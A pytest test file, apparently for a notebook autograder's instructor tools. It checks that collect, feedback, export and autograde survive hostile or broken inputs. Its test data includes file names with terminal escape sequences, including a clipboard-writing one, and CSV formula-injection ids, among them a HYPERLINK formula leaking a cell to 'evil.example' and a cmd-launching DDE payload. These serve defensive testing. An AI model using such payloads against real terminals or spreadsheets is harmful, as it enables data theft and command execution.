"""Instructor tools that one bad file cannot stop (issue 16).

One test per probe that once broke ``collect``, ``autograde``, ``feedback``, ``export``
or the course's settings.  Each asserts that the bad item is reported on its own line
(its name shown safely), that the rest of the class is handled, that nothing collected
or graded before is lost, and that the command ends with its report and the exit
status of ``autograder.cli``'s docstring (0 done, 1 some items failed, 2 one line).

Collect, feedback and export run on the tiny course of ``test_instructor_tools``;
what needs real grading shares one copy of the real course, graded once per module
(:func:`graded`).  Tests that fill a disk mount a tiny tmpfs, and so run as root only.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import threading
import time
import tracemalloc
import zipfile
from pathlib import Path

import nbformat
import pytest
import yaml
from click.testing import CliRunner

from autograder import collect as collect_mod
from autograder import feedback as feedback_mod
from autograder import gradebook as gradebook_module
from autograder import nbgrader_adapter
from autograder.autograde import autograde, batch
from autograder.cli import main
from autograder.collect import collect, safe_student_id
from autograder.config import CourseConfigError, load_course, machine_memory_mb, parse_course
from autograder.export import export_grades
from autograder.fileio import replace_dir
from autograder.gradebook import GradebookUnavailable, db_url, read_gradebook
from autograder.results import SubmissionRecord

from .conftest import ROOT, copy_course, needs_data
from .test_instructor_tools import files_under, gradebooks, make_course, nb_bytes, put  # noqa: F401
from .test_instructor_tools import write_graded_submission

ESCAPES = ("\x1b", "\x07", "\u202e", "\x9b")


# --------------------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------------------
def tiny_course(root: Path, db: Path | None = None):
    """The tiny course, with placeholder source notebooks so that the CLI can load it."""
    course = make_course(root, db)
    for path in course.missing_notebooks():
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nbformat.v4.new_notebook(), path)
    return course


def run_cli(root: Path, *args: str) -> subprocess.CompletedProcess:
    """``course --course-dir root ARGS`` in a process of its own whose stdout and stderr
    are strict UTF-8 (a character that is not encodable there is a crash)."""
    env = {**os.environ, "PYTHONIOENCODING": "utf-8:strict", "COLUMNS": "200",
           "PATH": os.pathsep.join([os.path.dirname(sys.executable), os.environ["PATH"]])}
    proc = subprocess.run([sys.executable, "-m", "autograder.cli", "--course-dir", str(root), *args],
                          capture_output=True, env=env, timeout=600)
    proc.stdout, proc.stderr = proc.stdout.decode("utf-8"), proc.stderr.decode("utf-8")  # strict: must be UTF-8
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def cli(root: Path, *args: str):
    """``course --course-dir root ARGS`` in this process (monkeypatches apply)."""
    return CliRunner().invoke(main, ["--course-dir", str(root), *args])


def assert_shown_safely(output: str) -> None:
    for c in ESCAPES:
        assert c not in output, repr(c)


@contextlib.contextmanager
def full_disk(path: Path, size: str):
    """A tmpfs of ``size`` mounted on ``path`` (root only; the test is skipped otherwise)."""
    path.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a tiny tmpfs needs root")
    if subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                      capture_output=True).returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], check=False)


@contextlib.contextmanager
def read_only(path: Path):
    """``path`` read-only: bound read-only onto itself (root: a read-only file system, as a
    read-only mount or snapshot of the course is), else its folders made unwritable."""
    if os.geteuid() == 0:
        if shutil.which("mount") is None or subprocess.run(["mount", "--bind", str(path), str(path)],
                                                           capture_output=True).returncode != 0:
            pytest.skip("cannot bind-mount here")
        try:
            if subprocess.run(["mount", "-o", "remount,bind,ro", str(path)], capture_output=True).returncode != 0:
                pytest.skip("cannot make a bind mount read-only here")
            yield "Read-only file system"
        finally:
            subprocess.run(["umount", "-l", str(path)], check=False)
        return
    folders = [path, *(p for p in path.rglob("*") if p.is_dir())]
    for folder in folders:
        folder.chmod(0o555)
    try:
        yield "Permission denied"
    finally:
        for folder in folders:
            folder.chmod(0o755)


@contextlib.contextmanager
def locked_gradebook(path: Path):
    """Another program holding the gradebook's lock (an open exclusive transaction)."""
    con = sqlite3.connect(path, isolation_level=None, timeout=30)
    con.execute("BEGIN EXCLUSIVE")
    try:
        yield con
    finally:
        con.rollback()
        con.close()


def padded_nb(tag: str, size: int) -> bytes:
    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_code_cell(f"a = 1  # {tag}", id="cell-1"))
    nb.metadata["padding"] = "x" * size
    return nbformat.writes(nb).encode()


# --------------------------------------------------------------------------------------
# collect
# --------------------------------------------------------------------------------------
def test_notebooks_without_cell_ids_are_read_without_a_warning_on_stderr(tmp_path):
    """A 4.5 notebook whose cells have no ids (an older or hand-written tool saved it):
    nbformat printed a MissingIDFieldWarning per cell on stderr while `course autograde`
    read it.  The ids are given, nothing is printed; other warnings are not silenced."""
    import warnings

    from nbformat.warnings import DuplicateCellId, MissingIDFieldWarning

    from autograder.notebooks import read_notebook

    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# Arrays"), nbformat.v4.new_code_cell("a = 1"),
                nbformat.v4.new_code_cell("b = a")]
    data = json.loads(nbformat.writes(nb))
    for cell in data["cells"]:
        del cell["id"]
    new, old, twice = tmp_path / "new.ipynb", tmp_path / "old.ipynb", tmp_path / "twice.ipynb"
    new.write_text(json.dumps(data))  # 4.5, no ids
    old.write_text(json.dumps({**data, "nbformat_minor": 4}))  # 4.4: no ids, and none needed
    twice.write_text(json.dumps({**data, "cells": [{**c, "id": "same"} for c in data["cells"]]}))

    code = ("import sys\nfrom pathlib import Path\nfrom autograder.notebooks import read_notebook\n"
            "for p in sys.argv[1:]:\n    print(len({c.get('id') for c in read_notebook(Path(p)).cells}))")
    proc = subprocess.run([sys.executable, "-c", code, str(new), str(old)], capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 0 and proc.stderr == "", proc.stderr
    assert proc.stdout.split() == ["3", "1"]  # 4.5: three new ids; 4.4: none (None)
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        assert read_notebook(new).nbformat_minor == 5 and read_notebook(old).nbformat_minor == 4
        assert not [w for w in seen if issubclass(w.category, MissingIDFieldWarning)]
        read_notebook(twice)  # repeated ids: nbformat's own warning, as before
        assert [w for w in seen if issubclass(w.category, DuplicateCellId)]


def test_collect_deep_json_and_a_5000_digit_number_cost_their_own_files_only(tmp_path):
    course = tiny_course(tmp_path / "course")
    src = tmp_path / "incoming"
    put(src / "alice/intro/arrays.ipynb", nb_bytes("alice"))
    put(src / "bob/intro/arrays.ipynb", b"[" * 1000 + b"]" * 1000)
    put(src / "carol/intro/arrays.ipynb", b'{"nbformat": 4, "metadata": {"n": ' + b"7" * 5000 + b"}, \"cells\": []}")
    put(src / "dave/intro/arrays.ipynb", nb_bytes("dave"))

    proc = run_cli(course.root, "collect", str(src))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "4 taken" in proc.stdout and "2 warnings" in proc.stdout
    lines = proc.stdout.splitlines()
    bob = next(line for line in lines if "bob/intro/arrays.ipynb" in line)
    carol = next(line for line in lines if "carol/intro/arrays.ipynb" in line)
    assert bob.startswith("  warning") and "nested too deeply" in bob
    assert carol.startswith("  warning") and "4300 digits" in carol
    assert files_under(course.root / "submitted") == {f"{s}/intro/arrays.ipynb" for s in ("alice", "bob", "carol", "dave")}


def test_collect_shows_hostile_names_as_text_on_a_strict_utf8_terminal(tmp_path):
    course = tiny_course(tmp_path / "course")
    hostile = ["w[/]readme.txt", "[link=https://evil.example]click[/link].ipynb", "[conceal]secret[/conceal].txt",
               "\x1b]0;owned\x07title.txt", "\x1b]52;c;cGF5bG9hZA==\x07clip.txt", "\x1b[2J\x1b[Hclear.txt",
               "evil\u202egnp.ipynb", "x.txt\n  taken    mallory/intro/arrays.ipynb"]
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("alice/intro/arrays.ipynb", nb_bytes("alice"))
        for name in hostile:
            zf.writestr(name, b"junk")

    proc = run_cli(course.root, "collect", str(archive))
    out = proc.stdout
    assert proc.returncode == 1
    assert_shown_safely(out + proc.stderr)
    # (in a zip, "/" separates folders: "w[/]readme.txt" is a folder "w[" and a file)
    for shown in ("export.zip:w[/", "student id 'w['", "export.zip:[link=https:/", "export.zip:[conceal]secret[/",
                  "\\x1b]0;owned\\x07title.txt", "\\x1b]52;c;", "\\x1b[2J", "evil\\u202egnp", "x.txt\\n  taken"):
        assert shown in out, shown
    report = out.splitlines()
    assert "1 taken" in report[0] and f"{len(hostile)} refused" in report[0]
    assert len(report) == 1 + len(hostile) and all(line.startswith("  refused  ") for line in report[1:])
    assert files_under(course.root / "submitted") == {"alice/intro/arrays.ipynb"}

    # a file name that is not UTF-8 (LMS exports made on other systems)
    folder = tmp_path / "lms"
    put(folder / "bob_arrays.ipynb", nb_bytes("bob"))
    fd = os.open(os.fsencode(folder) + b"/\xff\xfe_arrays.ipynb", os.O_WRONLY | os.O_CREAT, 0o644)
    os.write(fd, nb_bytes())
    os.close(fd)
    proc = run_cli(course.root, "collect", str(folder))
    assert proc.returncode == 1 and "\\xff\\xfe_arrays.ipynb" in proc.stdout and "not a safe folder name" in proc.stdout
    assert (course.root / "submitted/bob/intro/arrays.ipynb").read_bytes() == nb_bytes("bob")


def test_collect_never_follows_a_file_or_folder_swapped_while_it_runs(tmp_path, monkeypatch):
    course = tiny_course(tmp_path / "course")
    solutions = course.root / "source/intro/arrays.ipynb"
    solutions.write_bytes(nb_bytes("INSTRUCTOR SOLUTIONS"))
    elsewhere = put(tmp_path / "elsewhere/intro/arrays.ipynb", nb_bytes("INSTRUCTOR SOLUTIONS")).parent.parent
    src = tmp_path / "incoming"
    for student in ("ada", "bob", "carol", "dave"):
        put(src / student / "intro/arrays.ipynb", nb_bytes(student))

    real_unwrap = collect_mod._unwrap

    def swap_after_listing(entries, ids):  # between the check (listing) and the use (reading)
        (src / "bob/intro/arrays.ipynb").unlink()
        (src / "bob/intro/arrays.ipynb").symlink_to(solutions)
        (src / "carol/intro/arrays.ipynb").unlink()
        os.mkfifo(src / "carol/intro/arrays.ipynb")
        shutil.rmtree(src / "dave")
        (src / "dave").symlink_to(elsewhere)
        return real_unwrap(entries, ids)

    monkeypatch.setattr(collect_mod, "_unwrap", swap_after_listing)
    done: dict = {}
    worker = threading.Thread(target=lambda: done.update(report=collect(course, src)), daemon=True)
    worker.start()
    worker.join(60)
    assert not worker.is_alive(), "collect blocked on a FIFO"
    report = done["report"]
    assert files_under(course.root / "submitted") == {"ada/intro/arrays.ipynb"}
    for path in (course.root / "submitted").rglob("*"):
        assert not path.is_file() or b"INSTRUCTOR SOLUTIONS" not in path.read_bytes()
    why = {Path(r.source).parts[-3]: r.reason for r in report.refused}
    assert "symbolic link" in why["bob"] and "not a regular file" in why["carol"] and "not a folder" in why["dave"]
    assert len(report.failed) == 3 and [t.student for t in report.taken] == ["ada"]


def test_collect_on_a_full_disk_refuses_each_file_it_cannot_write_and_keeps_what_it_took(tmp_path):
    course = tiny_course(tmp_path / "course")
    src = tmp_path / "incoming"
    ada = put(src / "ada/intro/arrays.ipynb", padded_nb("ada", 36_000)).read_bytes()
    with full_disk(course.root / "submitted", "64k") as submitted:
        first = run_cli(course.root, "collect", str(src))
        assert first.returncode == 0, first.stdout
        put(src / "bob/intro/arrays.ipynb", padded_nb("bob", 36_000))
        put(src / "carol/intro/arrays.ipynb", padded_nb("carol", 36_000))

        proc = run_cli(course.root, "collect", str(src))
        assert proc.returncode == 1
        lines = proc.stdout.splitlines()
        assert "1 taken" in lines[0] and "2 refused" in lines[0]
        for student in ("bob", "carol"):
            line = next(x for x in lines if f"{student}/intro/arrays.ipynb:" in x)
            assert line.startswith("  refused") and "No space left on device" in line
            assert str(submitted / student / "intro/arrays.ipynb") in line
        assert (submitted / "ada/intro/arrays.ipynb").read_bytes() == ada
        assert not [p for p in submitted.rglob("*") if p.name.endswith(".partial")]


def test_a_second_run_stops_at_once_while_another_holds_the_course(tmp_path):
    course = tiny_course(tmp_path / "course")
    put(course.root / "submitted/ada/intro/arrays.ipynb", nb_bytes("ada"))
    put(tmp_path / "incoming/bob/intro/arrays.ipynb", nb_bytes("bob"))
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys\nfrom autograder.config import load_course\nfrom autograder.lock import "
         "course_lock\nwith course_lock(load_course(sys.argv[1]), 'autograde'):\n    print('held', flush=True)\n"
         "    sys.stdin.read()\n", str(course.root)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        for args in (("collect", str(tmp_path / "incoming")), ("autograde",)):
            started = time.monotonic()
            result = cli(course.root, *args)
            assert result.exit_code == 2, result.output
            assert f"is busy: `course autograde` (process {holder.pid})" in result.output
            assert len(result.output.strip().splitlines()) == 1 and time.monotonic() - started < 10
        assert not (course.root / "submitted/bob").exists()
    finally:
        holder.communicate("", timeout=30)
    assert cli(course.root, "collect", str(tmp_path / "incoming")).exit_code == 0


# --------------------------------------------------------------------------------------
# feedback
# --------------------------------------------------------------------------------------
@pytest.fixture
def feedback_course(tmp_path, gradebooks):  # noqa: F811 - the module-scoped fixture of test_instructor_tools
    """The tiny course with alice's hostile graded submission (write_graded_submission)."""
    course = tiny_course(tmp_path / "course", gradebooks[1])
    shutil.rmtree(course.root / "source/intro")
    write_graded_submission(course)
    return course


def test_feedback_cuts_a_6mb_markdown_table_in_bounded_time_and_memory(feedback_course):
    course = feedback_course
    graded = course.root / "autograded/alice/intro/arrays.ipynb"
    nb = nbformat.read(graded, 4)
    row = "| " + " | ".join(["3C120"] * 10) + " |\n"
    table = row + "|" + "---|" * 10 + "\n" + row * (6_000_000 // len(row))
    nb.cells.append(nbformat.v4.new_markdown_cell(table))
    nbformat.write(nb, graded)

    tracemalloc.start()
    started = time.monotonic()
    try:
        result = feedback_mod.write_feedback(course, assignments=["intro"], students=["alice"])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.monotonic() - started < 60  # about 1 s alone; uncut, 60 s and 4.5 GB
    assert peak < 400 * 2**20, peak
    page = result[0].read_text()
    assert f"text cut: {len(table):,} characters, the first {feedback_mod.MAX_CELL_CHARS:,} shown" in page
    assert len(page) < 3 * feedback_mod.MAX_CELL_CHARS + 100_000


def test_feedback_a_page_that_cannot_be_rendered_is_skipped_and_every_other_is_written(feedback_course, monkeypatch):
    course = feedback_course
    for student in ("bob", "carol"):
        shutil.copytree(course.root / "autograded/alice", course.root / f"autograded/{student}")
    # carol's graded notebook is malformed in every way a file can be and still render
    nb = json.loads((course.root / "autograded/carol/intro/arrays.ipynb").read_text())
    nb["cells"] += [{"cell_type": "markdown", "source": {"a": 1}}, 5, {"cell_type": "code", "outputs": "x",
                                                                       "source": ["a", 3], "metadata": []}]
    (course.root / "autograded/carol/intro/arrays.ipynb").write_text(json.dumps(nb))
    real = feedback_mod.render_feedback

    def render(course, assignment, student, *args):
        if student == "bob":
            raise MemoryError("the markdown of cell 3")
        return real(course, assignment, student, *args)

    monkeypatch.setattr(feedback_mod, "render_feedback", render)
    result = cli(course.root, "feedback", "intro")
    assert result.exit_code == 1, result.output
    assert "FAILED  bob/intro: could not be rendered (MemoryError: the markdown of cell 3)" in result.output
    assert "wrote 2 feedback pages; skipped 2 (1 failed)" in result.output  # dave has nothing graded
    for student in ("alice", "carol"):
        assert (course.root / f"feedback/{student}/intro/feedback.html").is_file()
    assert not (course.root / "feedback/bob").exists()


def test_feedback_on_a_full_disk_names_the_path_and_leaves_no_partial_page(feedback_course, tmp_path):
    course = feedback_course
    with full_disk(tmp_path / "small", "4k") as out:
        result = feedback_mod.write_feedback(course, assignments=["intro"], out_dir=out)
        assert list(result) == [] and [s.student for s in result.failed] == ["alice"]
        reason = result.failed[0].reason
        assert str(out / "alice/intro/feedback.html") in reason and "No space left on device" in reason
        assert not [p for p in out.rglob("*") if p.is_file()]


def test_feedback_in_a_read_only_course_stops_with_one_line_like_export(feedback_course):
    """README: a read-only folder stops a command with one line naming it, exit status 2
    (was, for feedback: one FAILED line per page, exit status 1)."""
    course = feedback_course
    shutil.copytree(course.root / "autograded/alice", course.root / "autograded/bob")
    with read_only(course.root) as reason:
        for command in ("feedback", "export"):
            proc = run_cli(course.root, command)
            assert proc.returncode == 2, (command, proc.stdout, proc.stderr)
            lines = proc.stderr.strip().splitlines()
            assert len(lines) == 1 and lines[0].startswith("error: ") and reason in lines[0], proc.stderr
            assert "FAILED" not in proc.stdout
        assert f"error: {course.root / 'feedback'}: {reason}" in run_cli(course.root, "feedback").stderr
    assert not (course.root / "feedback").exists()


# --------------------------------------------------------------------------------------
# export
# --------------------------------------------------------------------------------------
FORMULA_IDS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2-3", "@user",
               "0012", "1e5", "\tx", "=1+1"]


def test_export_csv_neutralises_formulas_keeps_ids_text_and_scores_numbers(tmp_path, gradebooks):  # noqa: F811
    from nbgrader.api import Gradebook

    assert safe_student_id("-2-3") and safe_student_id("@user")  # ids collect accepts
    course = make_course(tmp_path / "course", gradebooks[1])
    with Gradebook(db_url(course), "tiny-course") as gb:
        for student in FORMULA_IDS:  # ids imported into the gradebook from elsewhere
            gb.add_student(student)

    result = export_grades(course)
    raw = result.path.read_text()
    rows = list(csv.reader(io.StringIO(raw)))
    by = {r[0]: r for r in rows[1:]}
    for student in FORMULA_IDS:
        assert by["'" + student][0] == "'" + student  # shown as the text it is, never run or converted
    for r in rows:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    header = rows[0]
    alice = by["alice"]
    assert alice[header.index("intro/total")] == "5" and alice[header.index("total")] == "5"  # numbers stay numbers
    assert by["'0012"][header.index("total")] == "0" and by["'0012"][header.index("intro/status")] == "missing"
    assert json.loads(export_grades(course, fmt="json").path.read_text())[0]["student"] in FORMULA_IDS  # JSON: as is


# --------------------------------------------------------------------------------------
# limits
# --------------------------------------------------------------------------------------
@pytest.mark.parametrize(("key", "value"), [("notebook_timeout", float("inf")), ("cell_timeout", float("inf")),
                                            ("cell_timeout", float("nan")), ("memory_mb", 10_000_000_000_000),
                                            ("notebook_timeout", 1e30)])
def test_validate_refuses_limits_that_grading_cannot_honour(tmp_path, key, value):
    course = tiny_course(tmp_path / "course")
    data = yaml.safe_load((course.root / "course.yml").read_text())
    data["grading"][key] = value
    (course.root / "course.yml").write_text(yaml.safe_dump(data))  # .inf, .nan as YAML writes them
    result = cli(course.root, "validate")
    assert result.exit_code == 2 and f"grading.{key}" in result.output, result.output
    with pytest.raises(CourseConfigError, match=f"grading.{key}"):
        load_course(course.root)


@needs_data
def test_memory_above_this_machine_stops_autograde_and_check_naming_the_key(tmp_path):
    machine = machine_memory_mb()
    if machine is None or machine + 1 > 1 << 20:
        pytest.skip("this machine's memory cannot be told, or is more than course.yml accepts")
    root = copy_course(tmp_path / "course")
    data = yaml.safe_load((root / "course.yml").read_text())
    data["grading"]["memory_mb"] = machine + 1
    (root / "course.yml").write_text(yaml.safe_dump(data))
    assert cli(root, "validate").exit_code == 0  # course.yml is read on other machines too
    submitted = root / "submitted/ada/array-creation"
    shutil.copytree(ROOT / "examples/submissions/ada/array-creation", submitted)
    for args in (("autograde",), ("check", str(submitted / "array-creation.ipynb"))):
        result = cli(root, *args)
        assert result.exit_code == 2, result.output
        assert "grading.memory_mb" in result.output and f"this machine's memory ({machine} MiB)" in result.output
    assert not (root / "autograded").exists() and not (root / "gradebook.db").exists()


# --------------------------------------------------------------------------------------
# one run at a time; folders replaced whole
# --------------------------------------------------------------------------------------
def test_replace_dir_keeps_the_old_folder_whole_until_the_new_one_is_in_place(tmp_path, monkeypatch):
    from autograder import fileio

    dest = tmp_path / "autograded/ada/intro"
    put(dest / "record.json", "old")
    seen_missing = []
    stop = threading.Event()

    def watch():
        while not stop.is_set():
            if not (dest / "record.json").is_file():
                seen_missing.append(time.monotonic())

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        for i in range(200):
            new = put(tmp_path / f"autograded/ada/.new{i}/record.json", f"v{i}").parent
            replace_dir(new, dest)
    finally:
        stop.set()
        watcher.join()
    assert not seen_missing and (dest / "record.json").read_text() == "v199"
    assert sorted(p.name for p in dest.parent.iterdir()) == ["intro"]

    # where paths cannot be swapped in one step, a failed rename puts the old folder back
    monkeypatch.setattr(fileio, "_exchange", lambda a, b: False)
    new = put(tmp_path / "autograded/ada/.broken/record.json", "new").parent
    real_rename = Path.rename

    def rename(self, target):
        if self == new:
            raise OSError(28, "No space left on device", str(self))
        return real_rename(self, target)

    monkeypatch.setattr(Path, "rename", rename)
    with pytest.raises(OSError):
        replace_dir(new, dest)
    assert (dest / "record.json").read_text() == "v199" and new.is_dir()


def test_two_finishes_at_once_use_their_own_temporary_folders(tmp_path, monkeypatch):
    course = make_course(tmp_path / "course")
    sub = batch.Submission("ada", "intro", course.folder("submitted", "ada", "intro"))
    monkeypatch.setattr(nbgrader_adapter, "finish", lambda course, config, nb, *args: nb)
    both_written = threading.Barrier(2, timeout=30)
    temporaries = []

    def replace_when_both_wrote(new, dest):
        temporaries.append(new)
        both_written.wait()  # both runs' folders exist side by side
        replace_dir(new, dest)

    monkeypatch.setattr(batch, "replace_dir", replace_when_both_wrote)
    results = []

    def run(tag):
        pending = batch.Pending(sub, ["arrays"], f"fp-{tag}", "settings")
        pending.graded["arrays"] = nbformat.v4.new_notebook(metadata={"run": tag})
        pending.waiting.clear()
        results.append(batch.finish(course, None, pending))

    threads = [threading.Thread(target=run, args=(tag,)) for tag in ("one", "two")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert [r.status for r in results] == ["graded", "graded"], [r.error for r in results]
    assert len(set(temporaries)) == 2
    out = course.folder("autograded", "ada", "intro")
    record = SubmissionRecord.read(out)
    assert nbformat.read(out / "arrays.ipynb", 4).metadata["run"] == record.fingerprint[3:]  # one run's, whole
    assert sorted(p.name for p in out.parent.iterdir()) == ["intro"]


def test_a_graded_notebook_that_cannot_be_read_back_fails_its_submission_only(tmp_path):
    course = make_course(tmp_path / "course")
    sub = batch.Submission("ada", "intro", course.folder("submitted", "ada", "intro"))
    pending = batch.Pending(sub, ["arrays"], "fp", "settings")
    pending.done("arrays", {"nb": "[" * 100_000 + "]" * 100_000, "result": {"outcomes": [], "problems": []}})
    assert not pending.waiting and "arrays: its graded copy could not be read (RecursionError" in pending.error
    result = batch.finish(course, None, pending)
    assert result.status == "failed" and result.error == pending.error


def test_a_gradebook_locked_by_another_program_is_one_line_for_every_command(tmp_path, gradebooks, monkeypatch):  # noqa: F811
    course = tiny_course(tmp_path / "course", gradebooks[1])
    put(course.root / "submitted/alice/intro/arrays.ipynb", nb_bytes("alice"))
    monkeypatch.setattr(gradebook_module, "GRADEBOOK_WAIT", 1.0)
    with locked_gradebook(course.gradebook_file):
        with pytest.raises(GradebookUnavailable, match="locked by another program"):
            read_gradebook(course)
        for args in (("export",), ("report",), ("feedback",), ("autograde",)):
            result = cli(course.root, *args)
            assert result.exit_code == 2, (args, result.output)
            line = result.output.strip()
            assert "\n" not in line and "gradebook.db is locked by another program (waited 1 s)" in line, line
    assert not (course.root / "autograded").exists()
    assert cli(course.root, "export").exit_code == 0  # released: works again


# --------------------------------------------------------------------------------------
# real grading: one class of hostile submissions, graded once
# --------------------------------------------------------------------------------------
ASSIGNMENT = "array-creation"
TITLE_ESCAPE = "\x1b]0;pwned\x07[link=http://evil.example]y[/link]"


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A copy of the course whose class (ada, right answers; tamper, grade ids made of
    markup and escapes; deep and bignum, JSON that cannot be parsed; full, whose graded
    folder is on a full disk where that can be mounted) was graded by `course autograde`.

    Returns (course, the autograde process, whether the full disk was mounted).
    """
    from autograder.release import release

    root = copy_course(tmp_path_factory.mktemp("graded"))
    course = load_course(root)
    release(course, [ASSIGNMENT])
    ada = (ROOT / "examples/submissions/ada" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_bytes()
    src = root.parent / "incoming"
    put(src / f"ada/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", ada)
    put(src / f"full/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", ada)
    tampered = json.loads(ada)
    for gid in ("[/x]", "[/x]", TITLE_ESCAPE, TITLE_ESCAPE):
        tampered["cells"].append(nbformat.v4.new_code_cell("x = 1", id=f"t{len(tampered['cells'])}", metadata={
            "nbgrader": {"grade_id": gid, "grade": True, "points": 1, "solution": False, "locked": True,
                         "schema_version": 3}}))
    put(src / f"tamper/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", json.dumps(tampered))
    put(src / f"deep/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", b"[" * 1000 + b"]" * 1000)
    bignum = json.loads(ada)
    bignum["metadata"]["n"] = 0
    put(src / f"bignum/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", json.dumps(bignum).replace('"n": 0', '"n": ' + "9" * 5000))
    collect(course, src)
    with contextlib.ExitStack() as stack:
        try:
            stack.enter_context(full_disk(root / "autograded/full", "4k"))
            mounted = True
        except pytest.skip.Exception:
            mounted = False
        proc = run_cli(root, "autograde")
    return course, proc, mounted


def summary_rows(proc) -> dict[str, str]:
    return {line.split("│")[1].strip(): line for line in proc.stdout.splitlines() if line.count("│") > 4}


@needs_data
@pytest.mark.slow
def test_autograde_grades_every_hostile_notebook_and_prints_its_summary(graded):
    course, proc, mounted = graded
    assert proc.returncode == (1 if mounted else 0), proc.stdout + proc.stderr
    assert_shown_safely(proc.stdout + proc.stderr)
    assert "autograde summary" in proc.stdout and f"4 graded, 0 already graded (skipped), {int(mounted)} failed" in proc.stdout
    rows = summary_rows(proc)
    assert "10/10" in rows["ada"] and "10/10" in rows["tamper"]
    assert "[/x]" in rows["tamper"] and "\\x1b]0;pwned\\x07[link=http://evil.ex" in proc.stdout
    assert "0/10" in rows["deep"] and "nested too deeply" in proc.stdout
    assert "0/10" in rows["bignum"] and "4300 digits" in proc.stdout
    pages = feedback_mod.write_feedback(course, assignments=[ASSIGNMENT], students=["tamper", "deep", "bignum"])
    assert not pages.failed and len(pages) == 3
    page = (course.folder("feedback") / "tamper" / ASSIGNMENT / "feedback.html").read_text()
    assert_shown_safely(page)
    assert "\\x1b]0;pwned\\x07" in page and "[/x]" in page


@needs_data
@pytest.mark.slow
def test_autograde_on_a_full_disk_fails_that_submission_in_one_line(graded):
    course, proc, mounted = graded
    if not mounted:
        pytest.skip("mounting a tiny tmpfs needs root")
    failed = [line for line in proc.stderr.splitlines() if line.startswith("FAILED")]
    assert len(failed) == 1
    assert failed[0].startswith(f"FAILED full/{ASSIGNMENT}: {course.folder('autograded', 'full', ASSIGNMENT)} "
                                "could not be written (No space left on device); its grades are saved")
    assert "failed" in summary_rows(proc)["full"]
    assert not course.folder("autograded", "full", ASSIGNMENT).exists()


@needs_data
@pytest.mark.slow
def test_changing_a_limit_or_the_checks_regrades_without_force(graded, tmp_path, monkeypatch):
    from nbgrader.api import Gradebook

    from autograder import checks

    course, _, _ = graded
    subs = [s for s in batch.find_submissions(course) if s.student != "full"]

    def planned(c) -> set[str]:
        batch._settings.cache_clear()
        with Gradebook(db_url(c), c.course.id) as gb:
            todo, skipped = batch.plan(c, subs, force=False, gb=gb)
        assert len(todo) + len(skipped) == len(subs)
        return {sub.student for sub, _ in todo}

    assert planned(course) == set()
    data = yaml.safe_load((course.root / "course.yml").read_text())
    data["grading"]["cell_timeout"] = 61
    assert planned(parse_course(data, course.root)) == {s.student for s in subs}

    copy = tmp_path / "checks"
    shutil.copytree(Path(checks.__file__).parent, copy)
    monkeypatch.setattr(checks, "__file__", str(copy / "__init__.py"))
    assert planned(course) == set()  # the same code elsewhere: nothing to do
    with open(copy / "_api.py", "a") as fh:
        fh.write("\n# a changed check\n")
    assert planned(course) == {s.student for s in subs}
    monkeypatch.undo()
    batch._settings.cache_clear()


@needs_data
@pytest.mark.slow
def test_a_gradebook_locked_during_the_batch_fails_the_rest_one_line_each(graded, monkeypatch):
    from nbgrader.api import Gradebook

    course, _, _ = graded
    students = ["ada", "bignum", "tamper"]
    records = {s: (course.folder("autograded", s, ASSIGNMENT) / SubmissionRecord.FILENAME).read_bytes() for s in students}
    with Gradebook(db_url(course), course.course.id) as gb:
        before = {s: gb.find_submission(ASSIGNMENT, s).score for s in students}
    monkeypatch.setattr(gradebook_module, "GRADEBOOK_WAIT", 1.0)
    locked: list = []
    with contextlib.ExitStack() as stack:
        def lock_after_the_first(result):  # another program takes the gradebook mid-batch
            if not locked:
                locked.append(stack.enter_context(locked_gradebook(course.gradebook_file)))

        started = time.monotonic()
        results = autograde(course, students=students, force=True, jobs=1, on_result=lock_after_the_first)
        elapsed = time.monotonic() - started
    first, *rest = results
    assert first.status == "graded" and rest and all(r.status == "failed" for r in rest)
    for r in rest:
        assert r.error.startswith("not graded: the gradebook") and "locked by another program (waited 1 s)" in r.error
        assert "\n" not in r.error
    assert elapsed < 60
    # nothing graded before is lost: the failed ones keep their graded folders and scores
    for r in rest:
        assert (course.folder("autograded", r.student, ASSIGNMENT) / SubmissionRecord.FILENAME).read_bytes() \
            == records[r.student]
    with Gradebook(db_url(course), course.course.id) as gb:
        assert {s: gb.find_submission(ASSIGNMENT, s).score for s in students} == before
    again = {r.student: r.status for r in autograde(course, students=students, jobs=1)}
    assert again == {s: "skipped" for s in students}


@pytest.mark.parametrize("damage", ["truncated", "not-a-database", "empty"])
def test_a_damaged_or_empty_gradebook_is_one_line_for_every_command_and_left_alone(
        tmp_path, gradebooks, damage):  # noqa: F811
    course = tiny_course(tmp_path / "course", gradebooks[1])
